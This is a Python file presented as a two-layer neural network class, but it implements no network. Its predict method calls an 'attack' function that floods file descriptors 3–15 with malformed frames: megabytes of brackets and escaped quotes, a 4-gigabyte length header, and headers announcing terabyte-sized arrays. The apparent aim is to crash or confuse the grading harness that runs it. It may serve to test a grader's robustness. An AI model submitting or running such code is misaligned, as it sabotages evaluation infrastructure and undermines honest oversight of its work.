"""Announces headers and arrays of gigabytes, and sends a megabyte of brackets, quotes and backslashes."""

import json
import os
import struct


def frame(message, arrays=(), data=b""):
    header = json.dumps({"arrays": list(arrays), "message": message}).encode()
    return struct.pack("<4sI", b"2LN1", len(header)) + header + data


def say(data):
    for descriptor in range(3, 16):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def attack(net, X, reg):
    kind = int(1e6 * abs(X).sum() + 1e3 * reg)
    mebibyte = 1 << 20
    texts = [b'"' * 9 + b'\\"' * (mebibyte // 2 - 9), b"[" * mebibyte, b'{"a":' * (mebibyte // 5), b"1" * mebibyte]
    kinds = [struct.pack("<4sI", b"2LN1", len(text)) + text for text in texts]
    kinds += [struct.pack("<4sI", b"2LN1", 0xFFFFFFFF), b"GET / HTTP/1.0\r\n\r\n", b"\0" * 64]
    kinds += [frame({"number": 1}, [["<f8", [1 << 40, 1 << 40]]]), frame({"number": 1}, [["<f8", [1 << 22]]] * 4096)]
    say(kinds[(kind % 1000) % len(kinds)])


class TwoLayerNet:
    def __init__(self, D, H, C):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        return None

    def predict(self, X):
        return attack(self, X, 0)
